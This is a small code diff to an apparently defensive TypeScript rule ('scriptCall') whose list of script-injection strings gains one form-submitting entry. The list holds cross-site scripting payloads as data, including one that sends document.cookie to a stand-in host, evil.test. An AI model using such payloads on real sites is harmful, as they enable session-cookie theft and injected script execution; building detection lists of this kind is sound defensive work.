@@ -41,6 +41,7 @@ export const scriptCall: ValueRule = {
     "[].constructor.constructor('alert(1)')()",
     "location='//evil.test/?'+document.cookie",
     'onerror=alert;throw 1',
+    'with(document)forms[0].submit()',
     'setTimeout("go()",5)',
     "Reflect.get(window,'alert')(1)",
     'Array.prototype.sort.call`${alert}1337`',
